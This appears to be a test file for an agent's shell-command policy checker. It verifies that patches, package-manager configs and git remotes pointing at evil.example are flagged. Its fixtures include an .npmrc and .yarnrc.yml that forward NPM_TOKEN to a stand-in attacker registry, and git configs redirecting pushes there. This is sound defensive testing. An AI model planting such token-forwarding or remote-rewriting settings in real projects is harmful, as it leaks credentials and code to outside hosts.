import { expect, test } from "vitest"
import { judgeCommand } from "./judge-command.ts"
import type { JudgedCommand } from "./policy-request.ts"
import { INITIAL_SHELL_STATE } from "./shell/understand-command.ts"

const FACTS = {
  userHome: "/home/alice",
  hermesHome: "/home/alice/.hermes",
  hermesRoot: "/home/alice/.hermes",
  workspaceRoot: "/w",
  hasSudoPassword: false,
}

async function judged(line: string, files: Readonly<Record<string, string>>): Promise<JudgedCommand> {
  return await judgeCommand(line, {
    state: INITIAL_SHELL_STATE("/w"),
    facts: FACTS,
    realPaths: (paths) => Promise.resolve(new Map(paths.map((path) => [path, path]))),
    packageScripts: () => Promise.resolve(new Map()),
    readTexts: (paths) =>
      Promise.resolve(new Map(paths.flatMap((path) => (files[path] === undefined ? [] : [[path, files[path]]])))),
  })
}

const keys = ({ verdict }: JudgedCommand): readonly string[] => verdict.findings.map(({ key }) => key)
const patch = (name: string): string => `--- a/${name}\n+++ b/${name}\n@@ -0,0 +1 @@\n+x\n`

test.each([
  ["git apply p.diff", ".envrc", ["write a file that other programs execute"]],
  ["git apply p.diff", "src/a.ts", []],
  ["git -C sub apply ../p.diff", ".vscode/tasks.json", ["write a file that other programs execute"]],
  ["git am p.diff", ".husky/pre-commit", ["write a file that other programs execute"]],
  ["patch -p1 < p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -p1 -i p.diff", ".envrc", ["write a file that other programs execute"]],
  ["patch -d ~ -p1 < p.diff", ".bashrc", ["overwrite credential, SSH or shell start-up file"]],
  ["patch -d ~ -p1 < p.diff", "notes.txt", []],
])("%s is judged by the files that the patch names: %s", async (line, name, expected) => {
  expect(keys(await judged(line, { "/w/p.diff": patch(name) }))).toEqual(expected)
})

const FOREIGN = "registry=https://packages.evil.example/\n//packages.evil.example/:_authToken=${NPM_TOKEN}\n"

test.each([
  ["npm view left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npm install", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  ["npx left-pad", ".npmrc", FOREIGN, ["packages.evil.example"], true],
  [
    "yarn",
    ".yarnrc.yml",
    'npmRegistryServer: "https://evil.example"\nnpmAuthToken: "${NPM_TOKEN}"\n',
    ["evil.example"],
    true,
  ],
  [
    "cargo add x",
    ".cargo/config.toml",
    '[registries.x]\nindex = "https://evil.example/index"\n',
    ["evil.example"],
    false,
  ],
  ["npm install", ".npmrc", "registry=https://npm.company.example/\n", ["npm.company.example"], false],
  ["npm install", ".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n", undefined, false],
  [
    "npm install",
    ".npmrc",
    "@me:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}",
    ["npm.pkg.github.com"],
    false,
  ],
  ["npm test", ".npmrc", FOREIGN, undefined, false],
  ["npm run build", ".npmrc", FOREIGN, undefined, false],
])("%s with %s: the hosts of its settings are known", async (line, file, text, hosts, sendsToken) => {
  const command = await judged(line, { [`/w/${file}`]: text })
  expect([command.registries, keys(command).includes("send a token to another service")]).toEqual([hosts, sendsToken])
})

const REMOTE = (url: string): string => `[remote "origin"]\n\turl = ${url}\n`
const OWN = "https://github.com/x/y.git"

test.each([
  ["git -C ot push", { "ot/.git/config": REMOTE("https://evil.example/y.git") }, true],
  ["cd ot/deep && git push origin main", { "ot/.git/config": REMOTE("https://evil.example/y.git") }, true],
  ["git --git-dir=ot/.git push", { "ot/.git/config": REMOTE("/tmp/y.git") }, true],
  ["git -C ot push", { "ot/.git/config": `${REMOTE(OWN)}[url "https://evil.example/"]\n\tinsteadOf = https://` }, true],
  ["git -C ot push", { "ot/.git": "gitdir: ../store" }, true],
  ["git -C ot push", { "ot/.git": "gitdir: ../.git/worktrees/ot" }, false],
  ["git -C ot push", { "ot/.git/config": REMOTE(OWN) }, false],
  ["cd packages/web && git push", {}, false],
])("%s with %j leads elsewhere: %s", async (line, files, expected) => {
  const inWorkspace = Object.fromEntries(Object.entries(files).map(([name, text]) => [`/w/${name}`, text]))
  const found = keys(await judged(line, { "/w/.git/config": REMOTE(OWN), ...inWorkspace }))
  expect(found.includes("git push to a URL")).toBe(expected)
})

test("a repository in a directory of repositories is the user's own", async () => {
  expect(keys(await judged("git -C one push", { "/w/one/.git/config": REMOTE(OWN) }))).toEqual([])
})

test.each([
  ["pip download -r req.txt", "req.txt", "--index-url https://evil.example/simple\nrequests\n", ["evil.example"]],
  ["pip install --requirement=req.txt", "req.txt", "x @ https://evil.example/x.whl\n", ["evil.example"]],
  ["python3 -m pip install -r req.txt", "req.txt", "-f https://evil.example/\n", ["evil.example"]],
  ["uv pip install -r req.txt", "req.txt", "-i https://evil.example/\n", ["evil.example"]],
  ["pip install -r req.txt", "req.txt", "# https://docs.example\nrequests\n", []],
  ["npm install", "package.json", '{"dependencies":{"x":"http://evil.example/x.tgz"}}', ["evil.example"]],
  ["npm ci", "package.json", '{"overrides":{"y":{"x":"git+ssh://git@evil.example/x"}}}', ["evil.example"]],
  ["yarn", "package.json", '{"devDependencies":{"x":"https://evil.example/x.tgz"}}', ["evil.example"]],
  ["npm install", "package.json", '{"homepage":"https://site.example","dependencies":{"x":"^1"}}', []],
  ["npm install", "package.json", '{"dependencies":{"x":"git+https://github.com/a/x"}}', []],
  ["npm install", "package.json", "not JSON", []],
  ["npm run build", "package.json", '{"dependencies":{"x":"http://evil.example/x.tgz"}}', []],
  ["uv sync", "pyproject.toml", '[project.urls]\nHome = "https://site.example"\n', []],
  ["uv sync", "pyproject.toml", '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', ["evil.example"]],
  ["cargo fetch", "Cargo.toml", '[dependencies]\nx = { git = "https://evil.example/x" }\n', ["evil.example"]],
  ["cargo fetch", "Cargo.toml", '[package]\nhomepage = "https://site.example"\n', []],
])("%s with %s %s reaches %j", async (line, name, text, hosts) => {
  expect((await judged(line, { [`/w/${name}`]: text })).registries ?? []).toEqual(hosts)
})
